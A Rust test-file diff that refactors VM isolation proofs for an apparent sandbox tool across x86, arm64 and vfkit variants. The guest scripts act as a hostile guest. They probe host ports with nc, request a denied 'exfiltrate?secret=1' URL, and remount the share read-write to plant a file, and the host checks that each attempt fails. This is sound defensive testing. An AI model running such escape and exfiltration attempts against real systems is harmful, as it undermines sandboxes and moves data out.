@@ -95,10 +95,6 @@ try {
 console.log(`allowed ${response.status} ${text} | denied ${refusal}`);
 "#;
 
-fn image() -> PathBuf {
-    repo_root().join("target").join("vm")
-}
-
 /// The host's own addresses (not loopback) and QEMU's usual user-network gateway: a guest with a network
 /// path could reach one of them; this one must reach none.
 fn host_addresses() -> Vec<String> {
@@ -128,7 +124,29 @@ fn processes_mentioning(needle: &str) -> Vec<String> {
     found
 }
 
-fn set_vm_paths(config: &Path, run_dir: &Path) {
+/// One way of booting the guest that the isolation proof runs.
+struct Variant {
+    /// The image folder (scripts/vm-image's output) and its kernel's file name.
+    image: PathBuf,
+    kernel: &'static str,
+    /// `[vm]` keys beyond the image paths.
+    vm: Vec<(&'static str, String)>,
+    script: &'static str,
+    /// Environment for the guest script.
+    env: Vec<(&'static str, String)>,
+    /// The checks the guest script must report passing.
+    checks: Vec<String>,
+    /// How many allowed (and as many denied) decisions the guest's requests make.
+    decisions: usize,
+}
+
+fn target_dir() -> PathBuf {
+    std::env::var_os("CARGO_TARGET_DIR")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| repo_root().join("target"))
+}
+
+fn set_vm_paths(config: &Path, run_dir: &Path, variant: &Variant) {
     let mut doc: toml::Table = std::fs::read_to_string(config)
         .expect("config")
         .parse()
@@ -137,24 +155,27 @@ fn set_vm_paths(config: &Path, run_dir: &Path) {
         .get_mut("vm")
         .and_then(toml::Value::as_table_mut)
         .expect("[vm]");
-    let image = image();
+    let image = &variant.image;
     for (key, path) in [
-        ("kernel", image.join("vmlinux")),
+        ("kernel", image.join(variant.kernel)),
         ("initrd", image.join("initramfs.cpio.gz")),
         ("share", image.join("share")),
         ("run_dir", run_dir.to_path_buf()),
     ] {
         vm.insert(key.into(), path.display().to_string().into());
     }
+    for (key, value) in &variant.vm {
+        vm.insert((*key).into(), value.clone().into());
+    }
     std::fs::write(config, toml::to_string(&doc).expect("toml")).expect("write config");
 }
 
-#[test]
-#[ignore = "boots a VM: needs QEMU, vhost-device-vsock and the scripts/vm-image image; scripts/test-vm runs it"]
-fn the_guest_reaches_the_world_only_through_the_pep() {
-    let image = image();
+/// Boots the guest as `variant` says with a script on its share and an HTTPS server on the host's
+/// loopback, then checks the guest's report, the audit log, and that nothing of the run is left.
+fn prove(variant: Variant) {
+    let image = &variant.image;
     assert!(
-        image.join("vmlinux").is_file() && image.join("share/node/bin/node").is_file(),
+        image.join(variant.kernel).is_file() && image.join("share/node/bin/node").is_file(),
         "no guest image in {}: run scripts/vm-image",
         image.display()
     );
@@ -166,17 +187,20 @@ fn the_guest_reaches_the_world_only_through_the_pep() {
     options.extra_ca_pem = Some(ca.ca_pem.clone());
     let config = write_config(&dir, &dir.join("unused.sock"), &options);
     let run_dir = dir.join("run");
-    set_vm_paths(&config, &run_dir);
+    set_vm_paths(&config, &run_dir, &variant);
     let scripts = image.join("share").join("e2e");
     std::fs::create_dir_all(&scripts).expect("mkdir");
-    std::fs::write(scripts.join("e2e.sh"), GUEST_SCRIPT).expect("guest script");
+    std::fs::write(scripts.join("e2e.sh"), variant.script).expect("guest script");
     std::fs::write(scripts.join("fetch.mjs"), NODE_SCRIPT).expect("node script");
     std::fs::write(scripts.join("proxy.mjs"), PROXY_SCRIPT).expect("proxy script");
+    let planted = image.join("share").join("guest-was-here");
+    let _ = std::fs::remove_file(&planted);
 
     let url_ok = format!("https://api.pexi.test:{}/hello", upstream.port());
     let url_denied = "https://denied.pexi.test/exfiltrate?secret=1".to_string();
     let started = Instant::now();
-    let output = Command::new(env!("CARGO_BIN_EXE_pexi"))
+    let mut command = Command::new(env!("CARGO_BIN_EXE_pexi"));
+    command
         .args(["vm", "run", "--config"])
         .arg(&config)
         // The 3-minute budget is enforced by the run itself: past it, pexi vm run stops the VM and fails.
@@ -184,7 +208,11 @@ fn the_guest_reaches_the_world_only_through_the_pep() {
         .arg(format!("--env=URL_OK={url_ok}"))
         .arg(format!("--env=URL_DENIED={url_denied}"))
         .arg(format!("--env=UPSTREAM_PORT={}", upstream.port()))
-        .arg(format!("--env=HOST_ADDRS={}", host_addresses().join(",")))
+        .arg(format!("--env=HOST_ADDRS={}", host_addresses().join(",")));
+    for (name, value) in &variant.env {
+        command.arg(format!("--env={name}={value}"));
+    }
+    let output = command
         .args(["--", "sh /share/e2e/e2e.sh"])
         .output()
         .expect("pexi vm run");
@@ -201,24 +229,20 @@ fn the_guest_reaches_the_world_only_through_the_pep() {
         failed.is_empty(),
         "guest checks failed: {failed:#?}\n{context}"
     );
-    let mut expected = vec![
-        "only-loopback".to_string(),
-        "no-tcp-to-10.0.2.2".to_string(),
-    ];
-    for endpoint in ["virtio:org.pexi.pep.0", "vsock:2:4041"] {
-        for check in ["pexi-fetch-allowed", "pexi-fetch-denied", "node-register"] {
-            expected.push(format!("{check}-{endpoint}"));
-        }
-    }
-    expected.push("node-register-guestd-socket".into());
-    expected.push("node-https-via-guest-proxy".into());
-    for name in &expected {
+    for name in &variant.checks {
         assert!(
             checks.contains(&format!("CHECK {name} ok").as_str()),
             "no passing check {name}\n{context}"
         );
     }
     assert_eq!(output.status.code(), Some(0), "{context}");
+    // Whatever the guest did to its share (remounting it read-write, writing), the host's folder is
+    // untouched.
+    assert!(
+        !planted.exists(),
+        "the guest wrote into the host's share: {}",
+        planted.display()
+    );
 
     // The host side: every request decided and recorded, and the log intact.
     let audit = dir.join("audit.jsonl");
@@ -242,8 +266,8 @@ fn the_guest_reaches_the_world_only_through_the_pep() {
     let allowed = decisions(&url_ok, true);
     assert_eq!(
         allowed.len(),
-        6,
-        "pexi-fetch and Node over virtio-serial and vsock, Node through pexi-guestd's socket and proxy\n{context}"
+        variant.decisions,
+        "one allowed request per client and channel\n{context}"
     );
     for decision in &allowed {
         let outcome = records
@@ -253,7 +277,7 @@ fn the_guest_reaches_the_world_only_through_the_pep() {
         assert_eq!(outcome["status"], 200);
     }
     let denied = decisions("https://denied.pexi.test/exfiltrate", false);
-    assert_eq!(denied.len(), 6, "{context}");
+    assert_eq!(denied.len(), variant.decisions, "{context}");
     for decision in &denied {
         assert_eq!(
             decision["decision"]["reasons"][0],
@@ -287,8 +311,138 @@ fn the_guest_reaches_the_world_only_through_the_pep() {
         String::from_utf8_lossy(&verify.stdout)
     );
 
-    // Nothing the run started is left behind.
+    // Nothing the run started is left behind: processes, and (vfkit) the per-run share copies.
     let leftovers = processes_mentioning(&run_dir.display().to_string());
     assert!(leftovers.is_empty(), "still running: {leftovers:#?}");
+    assert!(
+        !run_dir.join("shares").exists(),
+        "the per-run share copies were not removed"
+    );
     let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
+#[ignore = "boots a VM: needs QEMU, vhost-device-vsock and the scripts/vm-image image; scripts/test-vm runs it"]
+fn the_guest_reaches_the_world_only_through_the_pep() {
+    let mut checks = vec![
+        "only-loopback".to_string(),
+        "no-tcp-to-10.0.2.2".to_string(),
+    ];
+    for endpoint in ["virtio:org.pexi.pep.0", "vsock:2:4041"] {
+        for check in ["pexi-fetch-allowed", "pexi-fetch-denied", "node-register"] {
+            checks.push(format!("{check}-{endpoint}"));
+        }
+    }
+    checks.push("node-register-guestd-socket".into());
+    checks.push("node-https-via-guest-proxy".into());
+    prove(Variant {
+        image: target_dir().join("vm"),
+        kernel: "vmlinux",
+        vm: vec![],
+        script: GUEST_SCRIPT,
+        env: vec![],
+        checks,
+        // pexi-fetch and Node over virtio-serial and vsock, Node through pexi-guestd's socket and proxy.
+        decisions: 6,
+    });
+}
+
+/// The arm64 guest's proof: the static Rust client over each channel the runner gives, the share's file
+/// system, and an unmodified Node HTTPS client through pexi-guestd (the addon is not built for arm64).
+const ARM64_SCRIPT: &str = r#"#!/bin/sh
+failed=0
+check() {
+    if [ "$1" = 0 ]; then echo "CHECK $2 ok"; else echo "CHECK $2 FAIL $3"; failed=1; fi
+}
+others=$(ip -o link show | grep -vc ': lo:')
+[ "$others" = 0 ]
+check $? only-loopback "$(ip -o link show | tr '\n' ' ')"
+for addr in $(echo "$HOST_ADDRS" | tr ',' ' '); do
+    if nc -w 3 "$addr" "$UPSTREAM_PORT" </dev/null >/dev/null 2>&1; then
+        check 1 "no-tcp-to-$addr" "a TCP connection to $addr:$UPSTREAM_PORT succeeded"
+    else
+        check 0 "no-tcp-to-$addr"
+    fi
+done
+[ "$(uname -m)" = aarch64 ]
+check $? arch-aarch64 "$(uname -m)"
+grep -q "^pexishare /share $SHARE_FS " /proc/mounts
+check $? "share-$SHARE_FS" "$(grep /share /proc/mounts)"
+for endpoint in $(echo "$ENDPOINTS" | tr "," " "); do
+    out=$(PEXI_ENDPOINT=$endpoint pexi-fetch "$URL_OK" 2>&1); rc=$?
+    [ "$rc" = 0 ] && [ "$out" = hello ]
+    check $? "pexi-fetch-allowed-$endpoint" "rc=$rc out=$out"
+    err=$(PEXI_ENDPOINT=$endpoint pexi-fetch "$URL_DENIED" 2>&1 >/dev/null); rc=$?
+    [ "$rc" = 1 ] && echo "$err" | grep -q "host denied.pexi.test is not in the allowlist"
+    check $? "pexi-fetch-denied-$endpoint" "rc=$rc err=$err"
+done
+mkdir -p /run/pexi
+pexi-guestd --endpoint vsock:2:4041 --listen 127.0.0.1:3128 --ca-cert /run/pexi/ca.pem --socket /run/pexi/pep.sock --deny-connect tunnel > /tmp/guestd.out 2> /tmp/guestd.err &
+for i in $(seq 150); do [ -s /tmp/guestd.out ] && break; sleep 0.2; done
+out=$(cd /tmp && env -u PEXI_ENDPOINT HTTPS_PROXY=http://127.0.0.1:3128 NODE_EXTRA_CA_CERTS=/run/pexi/ca.pem node /share/e2e/proxy.mjs "$URL_OK" "$URL_DENIED" 2>&1); rc=$?
+[ "$rc" = 0 ] && [ "$out" = "allowed 200 hello | denied 403 policy_denied" ]
+check $? node-https-via-guest-proxy "rc=$rc out=$out $(cat /tmp/guestd.err)"
+# A hostile guest tries to change the host's files through its share; the host checks they did not.
+mount -o remount,rw /share 2>/dev/null && echo pwned > /share/guest-was-here 2>/dev/null
+echo "share write attempt: $?"
+exit $failed
+"#;
+
+fn arm64_variant(vm: Vec<(&'static str, String)>, endpoints: &[&str], fs: &str) -> Variant {
+    let mut checks = vec![
+        "only-loopback".to_string(),
+        "no-tcp-to-10.0.2.2".to_string(),
+        "arch-aarch64".to_string(),
+        format!("share-{fs}"),
+        "node-https-via-guest-proxy".to_string(),
+    ];
+    for endpoint in endpoints {
+        for check in ["pexi-fetch-allowed", "pexi-fetch-denied"] {
+            checks.push(format!("{check}-{endpoint}"));
+        }
+    }
+    let mut vm = vm;
+    vm.push(("arch", "aarch64".into()));
+    vm.push(("qemu", "qemu-system-aarch64".into()));
+    Variant {
+        image: target_dir().join("vm-arm64"),
+        kernel: "Image",
+        vm,
+        script: ARM64_SCRIPT,
+        env: vec![("ENDPOINTS", endpoints.join(",")), ("SHARE_FS", fs.into())],
+        checks,
+        decisions: endpoints.len() + 1,
+    }
+}
+
+#[test]
+#[ignore = "boots an arm64 VM under emulation: needs qemu-system-aarch64 and scripts/vm-image --arch arm64; scripts/test-vm-arm64 runs it"]
+fn the_arm64_guest_reaches_the_world_only_through_the_pep() {
+    prove(arm64_variant(
+        vec![("runner", "qemu".into())],
+        &["virtio:org.pexi.pep.0", "vsock:2:4041"],
+        "9p",
+    ));
+}
+
+/// The macOS path: `pexi vm run` builds vfkit's command line, and test-support/vfkit-shim boots it with
+/// QEMU (virtio console, vsock to the socket vfkit would serve, virtio-fs through virtiofsd).
+#[test]
+#[ignore = "boots an arm64 VM through the vfkit shim: needs qemu-system-aarch64, virtiofsd and scripts/vm-image --arch arm64; scripts/test-vm-arm64 runs it"]
+fn the_arm64_guest_through_vfkit_reaches_the_world_only_through_the_pep() {
+    prove(arm64_variant(
+        vec![
+            ("runner", "vfkit".into()),
+            (
+                "vfkit",
+                repo_root()
+                    .join("test-support")
+                    .join("vfkit-shim")
+                    .display()
+                    .to_string(),
+            ),
+        ],
+        &["vsock:2:4041"],
+        "virtiofs",
+    ));
 }
